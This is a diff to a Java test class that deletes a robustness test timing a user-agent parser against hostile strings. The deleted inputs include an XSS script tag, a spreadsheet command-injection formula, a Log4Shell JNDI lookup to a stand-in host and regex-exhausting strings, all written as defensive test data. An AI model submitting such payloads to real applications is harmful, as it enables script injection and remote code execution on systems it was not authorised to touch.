@@ -102,34 +102,4 @@ class AgentEqualityTest {
         .as("kinds of device among them")
         .isGreaterThan(4);
   }
-
-  @Test
-  void a_hostile_agent_costs_no_more_than_50_ms_and_is_kept_as_it_is() {
-    for (String agent :
-        List.of(
-            "x".repeat(8192),
-            "(".repeat(4000),
-            "a".repeat(2000) + ";".repeat(2000),
-            "Mozilla/5.0 " + "a/1 ".repeat(1500),
-            "Mozilla/5.0 (" + "(((;".repeat(500) + ")",
-            "</script><script>alert(1)</script>",
-            "=cmd|' /C calc'!A0",
-            "${jndi:ldap://x.example/a}",
-            "\0\1\2\u2028\u202e")) {
-      AgentAnalyzer.fields(agent); // warm
-      long best = Long.MAX_VALUE;
-      for (int i = 0; i < 5; i++) {
-        long before = cpu();
-        AgentAnalyzer.fields(agent);
-        best = Math.min(best, cpu() - before);
-      }
-      assertThat(best / 1_000_000)
-          .as(agent.substring(0, Math.min(30, agent.length())))
-          .isLessThan(50);
-    }
-  }
-
-  private static long cpu() {
-    return java.lang.management.ManagementFactory.getThreadMXBean().getCurrentThreadCpuTime();
-  }
 }
